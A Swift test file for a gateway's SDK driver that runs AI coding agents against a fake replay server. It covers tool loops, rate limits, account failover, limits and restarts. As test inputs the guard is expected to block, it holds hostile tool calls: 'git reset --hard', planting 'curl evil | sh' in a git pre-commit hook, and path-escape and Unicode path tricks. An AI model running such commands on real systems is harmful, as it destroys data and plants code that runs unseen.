import Foundation
@_spi(Testing) import Host
import HostTestSupport
import Testing

/// The SDK driver, loaded with dlopen from this build's libSDKDriver.so by a whole gateway, calling
/// a local server that replays Anthropic's and OpenAI's documented streaming formats byte for byte.
/// Commands the model asks for go through the gateway's real policy and executor.
@Suite("SDK driver", .serialized)
struct SDKDriverTests {
    struct Fixture {
        let harness: SessionHarness
        let provider: FakeProvider
        /// Whether finish() stops the provider (false when it outlives this gateway).
        let ownsProvider: Bool

        init(_ responses: [[String: Any]] = [], provider existing: FakeProvider? = nil, limits: GatewayConfiguration.Limits = .init(),
             reopening previous: TemporaryDirectory? = nil) async throws {
            ownsProvider = existing == nil
            if let existing { provider = existing } else { provider = try await FakeProvider(responses) }
            if let previous {
                harness = try await SessionHarness(limits: limits, directory: previous)
                return
            }
            let directory = try TemporaryDirectory("sdk")
            try directory.write("plugins.d/sdk.toml", "path = \"\(TestPaths.library("SDKDriver").path)\"\n")
            harness = try await SessionHarness(limits: limits, directory: directory)
        }

        /// An agent of the SDK driver pointed at the fake provider; `config` is merged over the base.
        func agent(_ provider: String = "anthropic", _ config: [String: Any] = [:], name: String = "coder") async throws -> AgentRecord {
            var merged: [String: Any] = ["provider": provider, "model": provider == "anthropic" ? "claude-sonnet-4-5" : "gpt-4.1",
                                         "base_url": provider == "anthropic" ? self.provider.baseURL : self.provider.baseURL + "/v1",
                                         "retry_delay_seconds": 0.05, "max_retry_delay_seconds": 0.2]
            merged.merge(config) { $1 }
            let json = String(decoding: try JSONSerialization.data(withJSONObject: merged), as: UTF8.self)
            return try await harness.store.upsertAgent(AgentRecord(name: name, driverID: "flywheel.sdk", configJSON: json))
        }

        @discardableResult
        func account(_ provider: String, _ label: String, key: String) async throws -> AccountRecord {
            try await harness.gateway.accounts.add(provider: provider, label: label, credentialsJSON: #"{"api_key":"\#(key)"}"#)
        }

        func run(_ task: String, _ agent: AgentRecord) async throws -> (SessionRecord, [EventRecord]) {
            try await harness.run(task, agent)
        }

        func finish() async {
            await harness.stop()
            harness.remove()
            if ownsProvider { provider.stop() }
        }
    }

    static func text(_ events: [EventRecord], _ type: String = "message") -> String {
        events.filter { $0.type == type }.compactMap { $0.object["text"] as? String }.joined()
    }

    static func messages(_ body: [String: Any]) -> [[String: Any]] { body["messages"] as? [[String: Any]] ?? [] }

    @Test("Anthropic: the reply streams as events, one command runs and one the guard blocks, both results go back, and the run ends done")
    func anthropicToolLoop() async throws {
        let writes = Replay.Call(id: "toolu_01A", name: "bash", arguments: #"{"command": "printf 'héllo ✓' > made.txt && cat made.txt"}"#)
        let destroys = Replay.Call(id: "toolu_01B", name: "bash", arguments: #"{"command": "git reset --hard HEAD~3"}"#)
        let fixture = try await Fixture([
            Replay.stream(Replay.anthropic(text: "Let me set things up — carefully.", calls: [writes, destroys], stop: "tool_use",
                                           input: 410, output: 96, cacheWrite: 1_200), every: 5),
            // A byte order mark first, split across chunks: the standard drops it.
            Replay.stream("\u{FEFF}" + Replay.anthropic(text: "Done: made.txt holds the greeting; the reset was refused.", stop: "end_turn",
                                                         input: 520, output: 30, cacheRead: 1_200), every: 2),
        ])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "team", key: "sk-ant-test-0001")
        let agent = try await fixture.agent()
        let (ended, events) = try await fixture.run("Create made.txt, then clean up history.", agent)
        #expect(ended.state == .done, "\(ended.error ?? "")")

        // What the model said, as it streamed: several message events, whole in order.
        #expect(Self.text(events) == "Let me set things up — carefully.Done: made.txt holds the greeting; the reset was refused.")
        #expect(events.filter { $0.type == "message" }.count > 2)
        let calls = events.filter { $0.type == "tool_call" }
        #expect(calls.map { $0.object["id"] as? String } == ["toolu_01A", "toolu_01B"])
        #expect((calls.first?.object["input"] as? [String: Any])?["command"] as? String == "printf 'héllo ✓' > made.txt && cat made.txt")
        let results = events.filter { $0.type == "tool_result" }
        #expect(results.count == 2)
        #expect(results.first?.object["is_error"] as? Bool == false)
        #expect((results.first?.object["output"] as? String)?.contains("héllo ✓") == true)
        #expect(results.last?.object["is_error"] as? Bool == true)
        #expect((results.last?.object["output"] as? String)?.contains("did not run") == true)
        #expect(try String(contentsOf: fixture.harness.workspace(of: agent).appendingPathComponent("made.txt"), encoding: .utf8) == "héllo ✓")
        // The gateway decided both, ran one and blocked the other.
        let decisions = try await fixture.harness.store.commandDecisions(sessionID: ended.id)
        #expect(decisions.map(\.status) == [.ran, .blocked])
        // Usage per step, with the cache counts.
        let usage = events.filter { $0.type == "usage" }
        #expect(usage.map { $0.object["input_tokens"] as? Int } == [410, 520])
        #expect(usage.map { $0.object["output_tokens"] as? Int } == [96, 30])
        #expect(usage.first?.object["cache_creation_input_tokens"] as? Int == 1_200)
        #expect(usage.last?.object["cache_read_input_tokens"] as? Int == 1_200)
        #expect(events.filter { $0.type == "x-sdk.turn" }.map { $0.object["stop_reason"] as? String } == ["tool_use", "end_turn"])
        #expect(events.last?.type == "host.session.state")
        #expect(events.contains { $0.type == "completed" && ($0.object["summary"] as? String)?.hasPrefix("Done: made.txt") == true })

        // What went over the wire.
        let requests = try fixture.provider.requests()
        #expect(requests.count == 2)
        #expect(requests.first?["path"] as? String == "/v1/messages")
        let headers = try fixture.provider.headers(0)
        #expect(headers["x-api-key"] == "sk-ant-test-0001")
        #expect(headers["anthropic-version"] == "2023-06-01")
        let bodies = try fixture.provider.bodies()
        let first = bodies[0]
        #expect(first["model"] as? String == "claude-sonnet-4-5")
        #expect(first["stream"] as? Bool == true)
        #expect(first["max_tokens"] as? Int == 8192)
        // Prompt caching: breakpoints on the system prompt (tools before it are cached with it) and
        // on the newest block of the conversation.
        let system = first["system"] as? [[String: Any]] ?? []
        #expect((system.first?["cache_control"] as? [String: Any])?["type"] as? String == "ephemeral")
        #expect((system.first?["text"] as? String)?.contains(fixture.harness.workspace(of: agent).path) == true)
        let tools = first["tools"] as? [[String: Any]] ?? []
        #expect(tools.map { $0["name"] as? String } == ["bash"])
        #expect(((Self.messages(first).last?["content"] as? [[String: Any]])?.last?["cache_control"] as? [String: Any])?["type"] as? String == "ephemeral")
        #expect(Self.messages(first).count == 1)
        #expect(((Self.messages(first)[0]["content"] as? [[String: Any]])?.first?["text"] as? String) == "Create made.txt, then clean up history.")
        let second = Self.messages(bodies[1])
        #expect(second.map { $0["role"] as? String } == ["user", "assistant", "user"])
        let assistant = second[1]["content"] as? [[String: Any]] ?? []
        #expect(assistant.map { $0["type"] as? String } == ["text", "tool_use", "tool_use"])
        #expect((assistant[1]["input"] as? [String: Any])?["command"] as? String == "printf 'héllo ✓' > made.txt && cat made.txt")
        let toolResults = second[2]["content"] as? [[String: Any]] ?? []
        #expect(toolResults.map { $0["tool_use_id"] as? String } == ["toolu_01A", "toolu_01B"])
        #expect(toolResults.map { $0["is_error"] as? Bool } == [false, true])
        #expect(toolResults.last?["cache_control"] != nil)
        #expect((second[0]["content"] as? [[String: Any]])?.first?["cache_control"] == nil, "one breakpoint on the conversation, at its end")
        // The key never reaches an event.
        #expect(!events.contains { $0.payload.contains("sk-ant-test-0001") })
        await fixture.finish()
    }

    @Test("OpenAI: parallel tool calls streamed in interleaved fragments over CRLF lines run in order, and the OpenAI account is the one leased")
    func openAIToolLoop() async throws {
        let one = Replay.Call(id: "call_abc", name: "bash", arguments: #"{"command":"echo first > one.txt; cat one.txt"}"#)
        let two = Replay.Call(id: "call_def", name: "bash", arguments: #"{"command":"echo second; exit 3"}"#)
        let fixture = try await Fixture([
            Replay.stream(Replay.openAI(text: "Running two things.", calls: [one, two], finish: "tool_calls", prompt: 300, completion: 40,
                                        cached: 128, lineEnd: "\r\n"), every: 3),
            Replay.stream(Replay.openAI(text: "All done ✓", finish: "stop", prompt: 420, completion: 9), every: 11),
        ])
        defer { Task { await fixture.finish() } }
        // Both kinds of account exist: the instance says which one its runs need (flywheel.instance/1).
        try await fixture.account("anthropic", "wrong", key: "sk-ant-never")
        try await fixture.account("openai", "right", key: "sk-openai-test-42")
        let (ended, events) = try await fixture.run("Make one.txt and check an exit code.", try await fixture.agent("openai"))
        #expect(ended.state == .done, "\(ended.error ?? "")")
        #expect(Self.text(events) == "Running two things.All done ✓")
        #expect(events.filter { $0.type == "tool_call" }.map { $0.object["id"] as? String } == ["call_abc", "call_def"])
        let results = events.filter { $0.type == "tool_result" }
        #expect(results.map { $0.object["is_error"] as? Bool } == [false, true])
        #expect((results.last?.object["output"] as? String)?.contains("exit code: 3") == true)
        let usage = events.filter { $0.type == "usage" }
        #expect(usage.first?.object["input_tokens"] as? Int == 172)
        #expect(usage.first?.object["cache_read_input_tokens"] as? Int == 128)

        let requests = try fixture.provider.requests()
        #expect(requests.map { $0["path"] as? String } == ["/v1/chat/completions", "/v1/chat/completions"])
        #expect(try fixture.provider.headers(0)["authorization"] == "Bearer sk-openai-test-42")
        let bodies = try fixture.provider.bodies()
        #expect((bodies[0]["stream_options"] as? [String: Any])?["include_usage"] as? Bool == true)
        #expect(((bodies[0]["tools"] as? [[String: Any]])?.first?["function"] as? [String: Any])?["name"] as? String == "bash")
        let second = Self.messages(bodies[1])
        #expect(second.map { $0["role"] as? String } == ["system", "user", "assistant", "tool", "tool"])
        #expect((second[2]["tool_calls"] as? [[String: Any]])?.count == 2)
        #expect(second[3]["tool_call_id"] as? String == "call_abc")
        #expect((second[3]["content"] as? String)?.contains("first") == true)
        #expect(second[4]["tool_call_id"] as? String == "call_def")
        await fixture.finish()
    }

    @Test("HTTP 429 reports a rate limit with the reset from the headers: the account cools down and the session fails over to the next")
    func rateLimitFailsOver() async throws {
        let fixture = try await Fixture([
            Replay.error(429, ["error": ["message": "Rate limit reached for gpt-4.1 on tokens per min (TPM)", "type": "tokens", "code": "rate_limit_exceeded"]],
                         headers: [["x-ratelimit-remaining-requests", "499"], ["x-ratelimit-reset-requests", "120ms"],
                                   ["x-ratelimit-remaining-tokens", "0"], ["x-ratelimit-reset-tokens", "6m0s"]]),
            Replay.stream(Replay.openAI(text: "Answered by the second account.", finish: "stop")),
        ])
        defer { Task { await fixture.finish() } }
        let first = try await fixture.account("openai", "first", key: "sk-first")
        try await fixture.account("openai", "second", key: "sk-second")
        let started = Date()
        let (ended, events) = try await fixture.run("Say hello.", try await fixture.agent("openai"))
        #expect(ended.state == .done, "\(ended.error ?? "")")
        #expect(Self.text(events) == "Answered by the second account.")
        let limited = try #require(events.first { $0.type == "rate_limited" })
        #expect(limited.object["provider"] as? String == "openai")
        #expect(limited.object["retry_after_seconds"] as? Double == 360)
        #expect(events.contains { $0.type == "host.account.cooldown" })
        let cooled = try await fixture.harness.gateway.accounts.get(first.id)
        #expect(cooled.status == .cooldown)
        let until = try #require(cooled.cooldownUntil)
        #expect(until.timeIntervalSince(started) > 350 && until.timeIntervalSince(started) < 380)
        #expect(try fixture.provider.requests().map { try #require($0["headers"] as? [String: String])["authorization"] }
            == ["Bearer sk-first", "Bearer sk-second"])
        await fixture.finish()
    }

    @Test("Anthropic 429: retry-after wins; without it, the reset of the limit that is used up; with every account cooling the session waits")
    func anthropicRateLimitHeaders() async throws {
        let resetIn90 = ISO8601DateFormatter().string(from: Date().addingTimeInterval(90))
        let resetIn5 = ISO8601DateFormatter().string(from: Date().addingTimeInterval(5))
        let fixture = try await Fixture([
            Replay.anthropicError(429, type: "rate_limit_error", message: "Number of request tokens has exceeded your per-minute rate limit",
                                  headers: [["retry-after", "45"], ["anthropic-ratelimit-tokens-reset", resetIn90]]),
            Replay.anthropicError(429, type: "rate_limit_error", message: "Number of request tokens has exceeded your per-minute rate limit",
                                  headers: [["anthropic-ratelimit-requests-remaining", "12"], ["anthropic-ratelimit-requests-reset", resetIn5],
                                            ["anthropic-ratelimit-tokens-remaining", "0"], ["anthropic-ratelimit-tokens-reset", resetIn90]]),
        ])
        defer { Task { await fixture.finish() } }
        let a = try await fixture.account("anthropic", "a", key: "sk-a")
        let b = try await fixture.account("anthropic", "b", key: "sk-b")
        let started = Date()
        let session = try await fixture.harness.submit("hi", agent: try await fixture.agent())
        let waiting = try await fixture.harness.waitFor(session.id, "waiting for a cooled account") {
            $0.state == .queued && $0.waitingReason?.contains("cooling down until") == true
        }
        #expect(waiting.state == .queued)
        let first = try #require(try await fixture.harness.gateway.accounts.get(a.id).cooldownUntil)
        let second = try #require(try await fixture.harness.gateway.accounts.get(b.id).cooldownUntil)
        #expect(first.timeIntervalSince(started) > 40 && first.timeIntervalSince(started) < 55, "retry-after: 45")
        #expect(second.timeIntervalSince(started) > 80 && second.timeIntervalSince(started) < 100, "the used-up token limit's reset")
        await fixture.finish()
    }

    @Test("file tools read and write inside the workspace only; a path outside or into .git is an error result, and nothing is written")
    func fileTools() async throws {
        let calls = [
            Replay.Call(id: "t1", name: "write_file", arguments: #"{"path": "notes/plan.md", "content": "step 1\nstep 2\n"}"#),
            Replay.Call(id: "t2", name: "read_file", arguments: #"{"path": "notes/plan.md", "line": 2}"#),
            Replay.Call(id: "t3", name: "read_file", arguments: #"{"path": "/etc/hostname"}"#),
            Replay.Call(id: "t4", name: "write_file", arguments: #"{"path": ".git/hooks/pre-commit", "content": "curl evil | sh"}"#),
            Replay.Call(id: "t5", name: "write_file", arguments: #"{"path": "../escape.txt", "content": "x"}"#),
            Replay.Call(id: "t6", name: "delete_everything", arguments: #"{}"#),
            // A combining mark after '/' and a prepended mark before the next: one Character each
            // with the slash, which a Character split would not see.
            Replay.Call(id: "t7", name: "write_file", arguments: #"{"path": ".git/\u0301\u0600/../config", "content": "[core]"}"#),
        ]
        let fixture = try await Fixture([
            Replay.stream(Replay.anthropic(calls: calls, stop: "tool_use")),
            Replay.stream(Replay.anthropic(text: "Files handled.", stop: "end_turn")),
        ])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let agent = try await fixture.agent("anthropic", ["file_tools": true])
        let (ended, events) = try await fixture.run("Write the plan.", agent)
        #expect(ended.state == .done, "\(ended.error ?? "")")
        let results = Dictionary(uniqueKeysWithValues: events.filter { $0.type == "tool_result" }.map {
            ($0.object["id"] as? String ?? "", ($0.object["output"] as? String ?? "", $0.object["is_error"] as? Bool ?? false))
        })
        let workspace = fixture.harness.workspace(of: agent)
        #expect(try String(contentsOf: workspace.appendingPathComponent("notes/plan.md"), encoding: .utf8) == "step 1\nstep 2\n")
        #expect(results["t1"]?.1 == false)
        #expect(results["t2"]?.0 == "step 2\n" && results["t2"]?.1 == false)
        #expect(results["t3"]?.1 == true && results["t3"]?.0.contains("outside the session's workspace") == true)
        #expect(results["t4"]?.1 == true && results["t4"]?.0.contains(".git") == true)
        #expect(results["t5"]?.1 == true)
        #expect(results["t6"]?.1 == true && results["t6"]?.0.contains("bash, read_file, write_file") == true)
        #expect(!FileManager.default.fileExists(atPath: workspace.appendingPathComponent(".git/hooks/pre-commit").path))
        #expect(results["t7"]?.1 == true, "\(results["t7"]?.0 ?? "no result")")
        #expect(!FileManager.default.fileExists(atPath: workspace.appendingPathComponent(".git/config").path))
        #expect(!FileManager.default.fileExists(atPath: workspace.deletingLastPathComponent().appendingPathComponent("escape.txt").path))
        // The tools were offered: bash and the two file tools.
        let tools = try fixture.provider.bodies()[0]["tools"] as? [[String: Any]] ?? []
        #expect(tools.map { $0["name"] as? String } == ["bash", "read_file", "write_file"])
        await fixture.finish()
    }

    @Test("529 overloaded and an overloaded_error mid-stream are retried with the same account, which is not cooled down")
    func overloadRetries() async throws {
        let fixture = try await Fixture([
            Replay.anthropicError(529, type: "overloaded_error", message: "Overloaded"),
            Replay.stream(Replay.anthropicStreamError(type: "overloaded_error", message: "Overloaded")),
            Replay.stream(Replay.anthropic(text: "Third time lucky.", stop: "end_turn")),
        ])
        defer { Task { await fixture.finish() } }
        let only = try await fixture.account("anthropic", "only", key: "sk-only")
        let (ended, events) = try await fixture.run("Hello?", try await fixture.agent())
        #expect(ended.state == .done, "\(ended.error ?? "")")
        #expect(events.filter { $0.type == "x-sdk.retry" }.count == 2)
        #expect(!events.contains { $0.type == "rate_limited" })
        #expect(try await fixture.harness.gateway.accounts.get(only.id).status == .verified)
        #expect(try fixture.provider.requests().count == 3)
        await fixture.finish()
    }

    @Test("a refused key marks its account invalid and a spent one disabled, each with the reason; the session fails over, then waits for an account")
    func accountsOutOfRotation() async throws {
        let fixture = try await Fixture([
            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
            Replay.anthropicError(400, type: "invalid_request_error",
                                  message: "Your credit balance is too low to access the Anthropic API. Please go to Plans & Billing to upgrade or purchase credits."),
            // A 401 that is not about the key (a proxy in the way) leaves the account alone.
            Replay.error(401, ["error": ["message": "proxy authorization required"]]),
            // Three accounts lost by one session: the session fails rather than emptying the pool.
            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
            Replay.anthropicError(401, type: "authentication_error", message: "invalid x-api-key"),
        ])
        defer { Task { await fixture.finish() } }
        let bad = try await fixture.account("anthropic", "bad", key: "sk-bad")
        let spent = try await fixture.account("anthropic", "spent", key: "sk-spent")
        let session = try await fixture.harness.submit("Hello?", agent: try await fixture.agent())
        let waiting = try await fixture.harness.waitFor(session.id, "waiting for an account") {
            $0.state == .queued && $0.waitingReason?.contains("none is configured or enabled") == true
        }
        #expect(waiting.accountID == nil)
        let invalid = try await fixture.harness.gateway.accounts.get(bad.id)
        #expect(invalid.status == .invalid)
        #expect(invalid.statusReason?.contains("invalid x-api-key") == true)
        let disabled = try await fixture.harness.gateway.accounts.get(spent.id)
        #expect(disabled.status == .disabled)
        #expect(disabled.statusReason?.contains("credit balance is too low") == true)
        let events = try await fixture.harness.events(session.id)
        #expect(events.filter { $0.type == "host.account.unusable" }.map { $0.object["status"] as? String } == ["invalid", "disabled"])
        #expect(!events.contains { $0.payload.contains("sk-bad") || $0.payload.contains("sk-spent") })

        try await fixture.harness.sessions.cancel(session.id)
        let kept = try await fixture.account("anthropic", "behind-a-proxy", key: "sk-kept")
        let (proxied, _) = try await fixture.run("Hello?", try await fixture.agent(name: "proxied"))
        #expect(proxied.state == .failed)
        #expect(proxied.error?.contains("proxy authorization required") == true)
        #expect(try await fixture.harness.gateway.accounts.get(kept.id).status == .verified)
        try await fixture.harness.gateway.accounts.delete(kept.id)

        for label in ["x", "y", "z", "spare"] { try await fixture.account("anthropic", label, key: "sk-\(label)") }
        let (capped, cappedEvents) = try await fixture.run("Hello?", try await fixture.agent(name: "misconfigured"))
        #expect(capped.state == .failed)
        #expect(capped.error?.contains("3 accounts were taken out of rotation by this session") == true)
        #expect(cappedEvents.filter { $0.type == "host.account.unusable" }.count == 3)
        #expect(try await fixture.harness.gateway.accounts.list(provider: "anthropic").filter { $0.status == .verified }.map(\.label) == ["spare"])
        await fixture.finish()
    }

    @Test("malformed data from the server fails the run with the offending part, never a crash")
    func malformedStream() async throws {
        let garbage = "event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"usage\":{\"input_tokens\":3}}}\n\n"
            + "event: content_block_start\ndata: {\"type\": \"content_block_start\", \"index\": 0, \"content_block\": {\"type\": \"text\"\n\n"
        let truncated = Replay.anthropic(text: "cut short", stop: "end_turn").components(separatedBy: "event: message_delta")[0]
        let fixture = try await Fixture([Replay.stream(garbage), Replay.stream(truncated)])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let agent = try await fixture.agent()
        let (bad, events) = try await fixture.run("one", agent)
        #expect(bad.state == .failed)
        #expect(bad.error?.contains("could not be read") == true)
        let problem = try #require(events.first { $0.type == "x-sdk.protocol_error" })
        #expect((problem.object["excerpt"] as? String)?.contains("content_block_start") == true)

        let (cut, _) = try await fixture.run("two", agent)
        #expect(cut.state == .failed)
        #expect(cut.error?.contains("ended before message_stop") == true)
        await fixture.finish()
    }

    @Test("cancel aborts the streaming request at once and ends the session cancelled")
    func cancelAbortsRequest() async throws {
        let opening = Replay.anthropic(text: "I will think about this for a long time", stop: "end_turn").components(separatedBy: "event: content_block_stop")[0]
        let fixture = try await Fixture([Replay.stream(opening, end: "hang")])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let session = try await fixture.harness.submit("Think.", agent: try await fixture.agent())
        _ = try await fixture.harness.waitFor(session.id, "the first words") { $0.lastSeq >= 3 }
        try await fixture.harness.waitForEvent(session.id, "message")
        let asked = ContinuousClock.now
        try await fixture.harness.sessions.cancel(session.id)
        let ended = try await fixture.harness.waitForState(session.id, [.cancelled, .failed, .done])
        #expect(ended.state == .cancelled)
        // The driver's own terminal event, not the host giving up after the grace period.
        #expect(try await fixture.harness.events(session.id).contains { $0.type == "cancelled" })
        #expect(ContinuousClock.now - asked < .seconds(5))
        // The replay server (a Python process) logs the close, orderly or a reset, when it notices it.
        for _ in 0..<500 where try fixture.provider.closedByClient().isEmpty { try await Task.sleep(for: .milliseconds(20)) }
        #expect(try fixture.provider.closedByClient() == [0])
        await fixture.finish()
    }

    @Test("limits end a run failed with the limit named: steps, tokens and a spend budget priced per model")
    func limits() async throws {
        let call = Replay.Call(id: "toolu_1", name: "bash", arguments: #"{"command":"true"}"#)
        let again = Replay.stream(Replay.anthropic(calls: [call], stop: "tool_use", input: 1_000, output: 1_000))
        let fixture = try await Fixture([again, again, again])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let (steps, _) = try await fixture.run("loop", try await fixture.agent("anthropic", ["max_steps": 1], name: "steps"))
        #expect(steps.state == .failed)
        #expect(steps.error?.contains("max_steps = 1") == true)
        let (tokens, _) = try await fixture.run("loop", try await fixture.agent("anthropic", ["max_total_tokens": 1_500], name: "tokens"))
        #expect(tokens.error?.contains("max_total_tokens = 1500") == true)
        let priced: [String: Any] = ["budget_usd": 0.01, "prices": ["claude-sonnet-4-5": ["input": 3.0, "output": 15.0]]]
        let (budget, events) = try await fixture.run("loop", try await fixture.agent("anthropic", priced, name: "budget"))
        #expect(budget.state == .failed)
        #expect(budget.error?.contains("spend budget reached: $0.0180") == true)
        #expect(events.first { $0.type == "usage" }?.object["cost_usd"] as? Double == 0.018)
        #expect(try fixture.provider.requests().count == 3, "no step after a limit")
        await fixture.finish()
    }

    @Test("a paused session resumes from its checkpoint: the model gets the whole conversation so far, tool results included")
    func pauseResume() async throws {
        let call = Replay.Call(id: "toolu_1", name: "bash", arguments: #"{"command":"echo step one"}"#)
        let thinking = Replay.anthropic(text: "Now the long part", stop: "end_turn").components(separatedBy: "event: content_block_stop")[0]
        let fixture = try await Fixture([
            // Whitespace-only text is not sent back: the Messages API refuses such a block.
            Replay.stream(Replay.anthropic(text: "\n\n", calls: [call], stop: "tool_use")),
            Replay.stream(thinking, end: "hang"),
            Replay.stream(Replay.anthropic(text: "Finished after the pause.", stop: "end_turn")),
        ])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let session = try await fixture.harness.submit("Do it in steps.", agent: try await fixture.agent())
        try await fixture.harness.waitForEvent(session.id, "host.checkpoint")
        for _ in 0..<500 where try fixture.provider.requests().count < 2 { try await Task.sleep(for: .milliseconds(20)) }
        try await fixture.harness.sessions.pause(session.id)
        #expect(try await fixture.harness.waitForState(session.id, [.paused, .failed, .done]).state == .paused)
        try await fixture.harness.sessions.resume(session.id)
        let ended = try await fixture.harness.waitForState(session.id, [.done, .failed])
        #expect(ended.state == .done, "\(ended.error ?? "")")
        let bodies = try fixture.provider.bodies()
        #expect(bodies.count == 3)
        // The resumed call carries exactly what the interrupted one did.
        #expect(Self.messages(bodies[2]).count == 3)
        #expect(Replay.json(Self.messages(bodies[2])) == Replay.json(Self.messages(bodies[1])))
        #expect((Self.messages(bodies[2])[1]["content"] as? [[String: Any]])?.map { $0["type"] as? String } == ["tool_use"])
        let results = (Self.messages(bodies[2])[2]["content"] as? [[String: Any]]) ?? []
        #expect((results.first?["content"] as? String)?.contains("step one") == true)
        #expect(Self.text(try await fixture.harness.events(session.id)).hasSuffix("Finished after the pause."))
        await fixture.finish()
    }

    @Test("a session running when the gateway stops, gracefully or not, resumes in the next gateway with the conversation so far",
          arguments: [true, false])
    func restart(graceful: Bool) async throws {
        let call = Replay.Call(id: "toolu_1", name: "bash", arguments: #"{"command":"echo before the restart"}"#)
        let opening = Replay.anthropic(text: "Thinking", stop: "end_turn").components(separatedBy: "event: content_block_stop")[0]
        let provider = try await FakeProvider([
            Replay.stream(Replay.anthropic(text: "One command first.", calls: [call], stop: "tool_use")),
            Replay.stream(opening, end: "hang"),
            Replay.stream(Replay.anthropic(text: "Done in the second gateway.", stop: "end_turn")),
        ])
        defer { provider.stop() }
        let (directory, sessionID) = try await Self.startAndStop(provider: provider, graceful: graceful)
        let second = try await Fixture(provider: provider, reopening: directory)
        let ended = try await second.harness.waitForState(sessionID, [.done, .failed, .cancelled], timeout: .seconds(60))
        #expect(ended.state == .done, "\(ended.error ?? "")")
        let bodies = try provider.bodies()
        #expect(bodies.count == 3)
        // The second gateway's call carries the conversation the first one had reached.
        #expect(Replay.json(Self.messages(bodies[2])) == Replay.json(Self.messages(bodies[1])))
        let events = try await second.harness.events(sessionID)
        #expect(events.filter { $0.type == "host.run.started" }.count == 2)
        #expect(events.filter { $0.type == "tool_result" }.count == 1, "the command ran once")
        #expect(Self.text(events).hasSuffix("Done in the second gateway."))
        await second.finish()
    }

    /// Starts a session on a gateway of its own and stops that gateway while the model's second
    /// reply streams; the gateway is gone (and its hold on the data directory) when this returns.
    static func startAndStop(provider: FakeProvider, graceful: Bool) async throws -> (TemporaryDirectory, String) {
        let first = try await Fixture(provider: provider)
        try await first.account("anthropic", "a", key: "sk-a")
        let session = try await first.harness.submit("Survive a restart.", agent: try await first.agent())
        try await first.harness.waitForEvent(session.id, "host.checkpoint")
        for _ in 0..<500 where try provider.requests().count < 2 { try await Task.sleep(for: .milliseconds(20)) }
        if graceful {
            try await first.harness.shutDown()  // checkpoints the run and queues the session again
        } else {
            await first.harness.stop()  // as a killed host: the session stays running, its last offered checkpoint stored
        }
        return (first.harness.directory, session.id)
    }

    @Test("a dropped connection and a refused connection are retried with backoff a bounded number of times")
    func networkRetries() async throws {
        let fixture = try await Fixture([
            Replay.stream(Replay.anthropic(text: "never finished", stop: "end_turn").components(separatedBy: "event: message_delta")[0], end: "close"),
            Replay.stream(Replay.anthropic(text: "Second try.", stop: "end_turn")),
        ])
        defer { Task { await fixture.finish() } }
        try await fixture.account("anthropic", "a", key: "sk-a")
        let (ended, events) = try await fixture.run("hi", try await fixture.agent())
        #expect(ended.state == .done, "\(ended.error ?? "")")
        #expect(events.filter { $0.type == "x-sdk.retry" }.count == 1)

        // Nothing listens on a port just closed: every attempt is refused.
        let listener = try LoopbackListener()
        let closed = listener.port
        listener.close()
        let (failed, failedEvents) = try await fixture.run("hi", try await fixture.agent("anthropic", ["base_url": "http://127.0.0.1:\(closed)", "max_retries": 2, "connect_timeout_seconds": 0.5], name: "nowhere"))
        #expect(failed.state == .failed)
        #expect(failed.error?.contains("gave up after 3 attempts") == true)
        #expect(failedEvents.filter { $0.type == "x-sdk.retry" }.count == 2)
        await fixture.finish()
    }

    @Test("configuration mistakes are refused naming the key, and a key in the configuration is refused outright")
    func configurationMistakes() async throws {
        let fixture = try await Fixture([])
        defer { Task { await fixture.finish() } }
        let agents = fixture.harness.gateway.agents
        for (config, expected) in [
            (#"{"provider":"anthropic"}"#, "model is required"),
            (#"{"model":"m","api_key":"sk-oops"}"#, "api_key does not belong"),
            (#"{"model":"m","base_url":"ftp://example.com"}"#, "base_url must be an http or https URL"),
            (#"{"model":"m","budget_usd":5}"#, "budget_usd needs the price of m"),
            (#"{"model":"m","max_steps":0}"#, "max_steps must be a whole number"),
            (#"{"model":"m","prices":{"m":{"input":1}}}"#, "prices.m needs input and output"),
            (#"{"model":"m","temperature":0.2}"#, "unknown key 'temperature'"),
        ] {
            let refused = await #expect(throws: AgentConfigurationRejected.self, "\(config)") {
                try await agents.create(AgentService.Definition(name: "x", driverID: "flywheel.sdk", configJSON: config))
            }
            #expect(refused?.reason.contains(expected) == true, "\(config): \(refused?.reason ?? "")")
        }
        await fixture.finish()
    }
}
